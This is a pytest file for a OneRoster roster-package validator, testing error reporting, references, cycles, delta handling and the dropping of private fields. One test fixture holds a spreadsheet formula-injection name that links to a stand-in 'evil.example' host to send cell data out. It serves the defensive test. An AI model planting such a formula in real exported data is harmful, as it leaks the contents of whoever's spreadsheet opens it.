"""The errors of a package, with file, row, column, value, reason and the way out."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from chalicelib.findings.model import Problem, Verdict
from chalicelib.rosters.check import RosterReport, check, load_earlier
from chalicelib.rosters.store import open_store
from tests.support.packages import Pack, a_class, a_district, a_user, enroll, sample_data


def judge(
    pack: Pack, earlier: Pack | None = None, *, known: bool | None = None
) -> tuple[RosterReport, list[Problem]]:
    with open_store() as store:
        if earlier is not None:
            assert load_earlier(store, earlier.open()).verdict.may_be_applied
        known = earlier is not None if known is None else known
        report = check(store, pack.open(), earlier_known=known)
        return report, list(store.problems())


def the_problem(pack: Pack, earlier: Pack | None = None) -> Problem:
    _, (problem,) = judge(pack, earlier)
    return problem


# -- cells ----------------------------------------------------------------------------------------

WRONG_CELLS = [
    ("orgs", "north", "name", "", "required"),
    ("orgs", "north", "type", "academy", "not_allowed"),
    ("academicSessions", "fall", "startDate", "17/8/2026", "not_a_date"),
    ("academicSessions", "fall", "startDate", "2026-08-17T14:30:00", "not_a_date"),
    ("academicSessions", "fall", "startDate", "2026-02-30", "not_a_date"),
    ("academicSessions", "fall", "endDate", "1/1/26", "not_a_date"),
    ("academicSessions", "fall", "endDate", "2026-08-01", "dates_reversed"),
    ("academicSessions", "fall", "schoolYear", "26/27", "not_a_year"),
    ("courses", "math3", "title", " ", "required"),
    ("courses", "math3", "title", "x" * 1001, "too_long"),
    ("classes", "k1", "classType", "weekly", "not_allowed"),
    ("users", "tess", "enabledUser", "perhaps", "not_allowed"),
    ("users", "tess", "familyName", "", "required"),
    ("roles", "r-tess", "role", "boss", "other_role"),
    ("roles", "r-tess", "roleType", "ext:third", "not_allowed"),
    ("enrollments", "ada-k1", "primary", "maybe", "not_allowed"),
    ("enrollments", "ada-k1", "beginDate", "soon", "not_a_date"),
]


@pytest.mark.parametrize(("file", "row", "column", "value", "code"), WRONG_CELLS)
def test_a_wrong_cell_is_named_with_its_place(
    file: str, row: str, column: str, value: str, code: str
) -> None:
    pack = a_district().change(file, row, **{column: value})
    problem = the_problem(pack)
    assert (problem.code, problem.file) == (code, f"{file}.csv")
    assert (problem.row, problem.column) == (pack.row_number(file, row), column)
    assert problem.value[:50] == value.strip()[:50]
    assert problem.reason
    assert problem.fix


@pytest.mark.parametrize("sourced_id", ["x" * 256, "\u00e9" * 128, "a\u0007b", "a\nb", "a\u0085b"])
def test_an_identifier_that_cannot_be_a_key_is_refused(sourced_id: str) -> None:
    pack = a_district().add("orgs", sourced_id, name="Odd", type="school", parentSourcedId="d1")
    assert the_problem(pack).code in ("id_too_long", "id_control_character")


def test_own_values_of_a_vendor_are_tolerated_where_the_binding_allows_them() -> None:
    pack = a_district().change("roles", "r-tess", role="ext:coach")
    pack.change("classes", "k1", classType="ext:club").change("orgs", "north", type="ext:campus")
    assert judge(pack)[1] == []


def test_a_spreadsheets_true_is_true() -> None:
    assert judge(a_district().change("users", "tess", enabledUser="TRUE"))[1] == []


def test_every_kind_of_problem_is_named_with_all_its_rows_not_the_first_only() -> None:
    pack = a_district()
    for name in ("ada", "ben", "cai", "dee"):
        pack.change("users", name, enabledUser="?")
    pack.change("enrollments", "dee-k2", userSourcedId="nobody")
    report, problems = judge(pack)
    assert report.verdict is Verdict.ROW_ERRORS
    assert len(problems) == report.problem_counts["error"] == 2
    (flags,) = [one for one in problems if one.column == "enabledUser"]
    rows = [pack.row_number("users", name) for name in ("ada", "ben", "cai", "dee")]
    assert (flags.count, flags.rows) == (4, f"{rows[0]}-{rows[-1]}")
    assert [place.row for place in flags.examples] == rows[:3]


def test_a_row_with_too_few_cells_is_named() -> None:
    pack = a_district()
    header = ",".join(pack.headers["courses"])
    pack.raw["courses.csv"] = f"{header}\nmath3,,,,Mathematics 3,,,d1,,\nx,,y\n".encode()
    problem = the_problem(pack)
    assert (problem.code, problem.file, problem.row) == ("cell_count", "courses.csv", 3)


# -- headers --------------------------------------------------------------------------------------


def test_columns_in_another_order_are_read_by_name_with_a_warning() -> None:
    pack = a_district()
    pack.headers["enrollments"].reverse()
    report, (problem,) = judge(pack)
    assert (report.verdict, problem.code) == (Verdict.WARN, "header_order")
    assert report.counts["enrollments"] == 6


def test_a_missing_needed_column_is_refused_and_a_missing_optional_one_only_noted() -> None:
    pack = a_district()
    pack.headers["users"].remove("familyName")
    report, (problem,) = judge(pack)
    assert (report.verdict, problem.column) == (Verdict.REJECT, "familyName")
    pack = a_district()
    pack.headers["users"].remove("pronouns")
    report, (problem,) = judge(pack)
    assert (report.verdict, problem.code) == (Verdict.WARN, "header_missing_optional")


def test_a_column_that_is_there_twice_is_refused() -> None:
    pack = a_district()
    pack.headers["users"].append("email")
    assert judge(pack)[0].verdict is Verdict.REJECT


def test_an_empty_file_is_refused_but_one_with_only_a_header_is_not() -> None:
    pack = a_district()
    pack.raw["enrollments.csv"] = b""
    assert judge(pack)[0].verdict is Verdict.REJECT
    pack = a_district()
    pack.rows["enrollments"].clear()
    assert judge(pack)[0].verdict is Verdict.ACCEPT


def test_status_in_a_bulk_file_is_ignored_with_one_warning_a_file() -> None:
    pack = a_district()
    for name in ("ada", "ben"):
        pack.change("users", name, status="active")
    report, (problem,) = judge(pack)
    assert (report.verdict, problem.code) == (Verdict.WARN, "filled_in_bulk")
    assert "2 rows" in problem.reason


def test_a_removal_in_a_bulk_file_is_an_error_because_it_could_be_meant_either_way() -> None:
    assert the_problem(a_district().change("users", "ada", status="tobedeleted")).code == (
        "deleted_in_bulk"
    )


def test_a_delta_row_must_say_what_happens_to_it() -> None:
    pack = a_district().only("delta", "users")
    report, problems = judge(pack, a_district())
    assert report.verdict is Verdict.ROW_ERRORS
    assert {problem.code for problem in problems} == {"status"}


# -- between rows ---------------------------------------------------------------------------------

REFERENCES = [
    ("orgs", "north", "parentSourcedId"),
    ("courses", "math3", "orgSourcedId"),
    ("classes", "k1", "courseSourcedId"),
    ("classes", "k1", "schoolSourcedId"),
    ("classes", "k1", "termSourcedIds"),
    ("roles", "r-tess", "userSourcedId"),
    ("roles", "r-tess", "orgSourcedId"),
    ("enrollments", "ada-k1", "classSourcedId"),
    ("enrollments", "ada-k1", "schoolSourcedId"),
    ("enrollments", "ada-k1", "userSourcedId"),
]


@pytest.mark.parametrize(("file", "row", "column"), REFERENCES)
def test_a_reference_to_nothing_is_named(file: str, row: str, column: str) -> None:
    pack = a_district().change(file, row, **{column: "nowhere"})
    report, problems = judge(pack)
    assert report.verdict is Verdict.ROW_ERRORS
    (orphan,) = [problem for problem in problems if problem.code == "orphan"]
    assert (orphan.file, orphan.column, orphan.value) == (f"{file}.csv", column, "nowhere")
    assert orphan.row == pack.row_number(file, row)


@pytest.mark.parametrize(
    ("file", "row", "column"),
    [
        ("academicSessions", "fall", "parentSourcedId"),
        ("courses", "math3", "schoolYearSourcedId"),
        ("users", "tess", "primaryOrgSourcedId"),
        ("orgs", "d1", "parentSourcedId"),
    ],
)
def test_a_reference_that_nothing_here_follows_is_a_warning(
    file: str, row: str, column: str
) -> None:
    report, (found,) = judge(a_district().change(file, row, **{column: "nowhere"}))
    assert report.verdict is Verdict.WARN
    assert (found.file, found.column, found.value) == (f"{file}.csv", column, "nowhere")


def test_each_of_several_terms_is_followed() -> None:
    pack = a_district().change("classes", "k1", termSourcedIds="fall, nowhere ,sy27")
    assert the_problem(pack).value == "nowhere"


def test_the_organizations_of_a_1_1_user_are_followed() -> None:
    pack = a_district("1.1").change("users", "tess", orgSourcedIds="north,nowhere")
    problem = the_problem(pack)
    assert (problem.file, problem.column, problem.value) == (
        "users.csv",
        "orgSourcedIds",
        "nowhere",
    )
    assert problem.row == pack.row_number("users", "tess")


def test_the_same_identifier_twice_is_named_with_both_rows() -> None:
    pack = a_district()
    pack.rows["users"].append(dict(pack.rows["users"][0]))
    problem = the_problem(pack)
    assert (problem.code, problem.row) == ("duplicate_id", len(pack.rows["users"]) + 1)
    assert "row 2" in problem.reason


@pytest.mark.parametrize("circle", [["north"], ["north", "south"], ["d1", "north"]])
def test_organizations_in_a_circle_are_named_each(circle: list[str]) -> None:
    pack = a_district()
    for child, parent in zip(circle, [*circle[1:], circle[0]], strict=True):
        pack.change("orgs", child, parentSourcedId=parent)
    _, (problem,) = judge(pack)
    assert (problem.code, problem.count) == ("cycle", len(circle))
    assert {place.value for place in problem.examples} == set(circle)


def test_a_long_chain_of_organizations_is_no_circle_and_no_recursion() -> None:
    pack = a_district()
    for number in range(5000):
        parent = f"o{number - 1}" if number else "d1"
        pack.add("orgs", f"o{number}", name="Deep", type="department", parentSourcedId=parent)
    assert judge(pack)[1] == []


def test_two_of_the_staff_cannot_share_a_sign_in_name() -> None:
    pack = a_district().change("users", "theo", username="TESS@example.org")
    problem = the_problem(pack)
    assert (problem.code, problem.column) == ("username_twice", "username")
    assert "tess" in problem.reason


def test_a_class_that_no_item_could_hold_is_refused() -> None:
    pack = a_district()
    for number in range(900):
        a_user(pack, f"s{number}")
        pack.change("users", f"s{number}", givenName="x" * 400)
        enroll(pack, f"s{number}", "k1")
    assert the_problem(pack).code == "class_too_large"


# -- without and with an earlier package ----------------------------------------------------------


def test_a_delta_alone_takes_on_trust_what_only_an_earlier_package_could_tell() -> None:
    delta = a_district().only("delta", "enrollments")
    delta.rows["enrollments"].clear()
    delta.add("enrollments", "e9", status="active", classSourcedId="k9", schoolSourcedId="north",
              userSourcedId="zoe", role="student")  # fmt: skip
    report, problems = judge(delta)
    assert (report.verdict, problems) == (Verdict.ACCEPT, [])
    assert "classes" in report.unchecked
    assert judge(delta, a_district())[0].verdict is Verdict.ROW_ERRORS


def test_a_delta_on_a_district_without_a_roster_is_refused() -> None:
    delta = a_district().only("delta", "users")
    for row in delta.rows["users"]:
        row["status"] = "active"
    report, (problem,) = judge(delta, known=True)
    assert (report.verdict, problem.code) == (Verdict.REJECT, "delta_without_earlier")


def test_dropping_more_than_a_tenth_of_a_kind_is_held_and_a_tenth_is_not() -> None:
    earlier = a_district()
    for number in range(36):
        a_user(earlier, f"s{number}")
        enroll(earlier, f"s{number}", "k1")
    later = earlier.copy()
    for number in range(4):
        later.remove("enrollments", f"s{number}-k1")
    assert judge(later, earlier)[0].verdict is Verdict.ACCEPT
    later.remove("enrollments", "s4-k1")
    report, _ = judge(later, earlier)
    assert report.verdict is Verdict.HOLD
    assert [(hold.kind, hold.count, hold.of) for hold in report.holds] == [("enrollments", 5, 42)]


def test_losing_everybodys_roles_is_held() -> None:
    later = a_district()
    later.rows["roles"].clear()
    report, _ = judge(later, a_district())
    assert (report.verdict, report.holds[0].kind) == (Verdict.HOLD, "roles")


def test_an_enrollment_file_that_was_cut_off_is_held_with_nothing_to_compare_it_with() -> None:
    pack = a_district()
    for name in ("ben", "cai", "dee"):
        pack.remove("enrollments", f"{name}-{'k1' if name == 'ben' else 'k2'}")
    report, _ = judge(pack)
    assert report.verdict is Verdict.HOLD
    assert "3 of 4 students" in report.holds[0].message


def test_half_of_the_students_may_sit_in_no_class_and_not_one_more() -> None:
    pack = a_district()
    for name in ("cai", "dee"):
        pack.remove("enrollments", f"{name}-k2")
    assert judge(pack)[0].verdict is Verdict.ACCEPT
    a_user(pack, "eve")
    report, _ = judge(pack)
    assert report.verdict is Verdict.HOLD
    assert "3 of 5 students" in report.holds[0].message


def test_before_schedules_are_made_nobody_sits_in_a_class_and_that_is_fine() -> None:
    pack = a_district()
    pack.rows["enrollments"] = [r for r in pack.rows["enrollments"] if r["role"] == "teacher"]
    assert judge(pack)[0].verdict is Verdict.ACCEPT


def test_unneeded_records_are_dropped_and_counted() -> None:
    pack = a_district().change("users", "ada", phone="555", password="geheim", middleName="M.")
    pack.headers["users"].append("metadata.lunch")
    pack.change("users", "ada", **{"metadata.lunch": "free"})
    pack.raw["demographics.csv"] = b"sourcedId,birthDate\nada,2017-01-01\nben,2017-02-02\n"
    pack.manifest["file.demographics"] = "bulk"
    with open_store() as store:
        report = check(store, pack.open(), earlier_known=False)
        stored = str(
            [
                list(store.rows(f"SELECT * FROM {g}_users"))  # noqa: S608
                for g in ("in", "new")
            ]
        )
    assert report.verdict is Verdict.ACCEPT
    assert report.dropped_files == {"demographics.csv": 2}
    assert report.dropped_cells == {
        "users.email": 4, "users.metadata.lunch": 1, "users.middleName": 1, "users.password": 1,
        "users.phone": 1,
    }  # fmt: skip
    assert not any(secret in stored for secret in ("555", "geheim", "free", "2017"))


# -- real packages --------------------------------------------------------------------------------


def _index() -> list[dict[str, str]]:
    with (sample_data() / "oneroster-negative" / "INDEX.csv").open(newline="") as index:
        return list(csv.DictReader(index))


@pytest.mark.parametrize("alone", [True, False])
def test_the_index_of_hostile_packages_is_judged_as_expected(alone: bool) -> None:
    folder = sample_data() / "oneroster-negative"
    for row in _index():
        with open_store() as store:
            if not alone:
                load_earlier(store, folder / "00-valid-bulk.zip")
            report = check(store, folder / row["file"], earlier_known=not alone)
        assert (row["file"], report.verdict) == (row["file"], row["expected"])


def test_hostile_names_are_kept_letter_by_letter() -> None:
    package = sample_data() / "oneroster-negative" / "24-hostile-names.zip"
    with open_store() as store:
        check(store, package, earlier_known=False)
        names = {name for pair in store.rows('SELECT "givenName", "familyName" FROM new_users')
                 for name in pair}  # fmt: skip
    assert '=HYPERLINK("http://evil.example/"&A1,"x")' in names
    assert {"\u0645\u0631\u064a\u0645", "\u5f20\u4f1f"} <= names


@pytest.mark.parametrize("version", ["1.1", "1.2"])
def test_grand_bend_is_read_whole_and_again_changes_nothing(version: str) -> None:
    package = sample_data() / "grand-bend" / f"oneroster-{version}-bulk.zip"
    with open_store() as store:
        first = load_earlier(store, package)
        again = check(store, package, earlier_known=True)
    assert (first.verdict, first.counts["users"], first.counts["enrollments"]) == (
        Verdict.ACCEPT, 1028, 13_244,
    )  # fmt: skip
    assert (again.verdict, again.is_no_change) == (Verdict.ACCEPT, True)


def test_a_class_of_an_unknown_course_and_school_is_two_problems() -> None:
    pack = a_district()
    a_class(pack, "k3", "nowhere")
    pack.change("classes", "k3", courseSourcedId="nothing")
    assert len(judge(pack)[1]) == 2


def test_a_package_may_come_as_a_file_or_as_a_path(tmp_path: Path) -> None:
    path = tmp_path / "roster.zip"
    path.write_bytes(a_district().write_zip())
    with open_store() as store:
        assert check(store, path, earlier_known=False).verdict is Verdict.ACCEPT
        assert isinstance(a_district().open(), io.BytesIO)
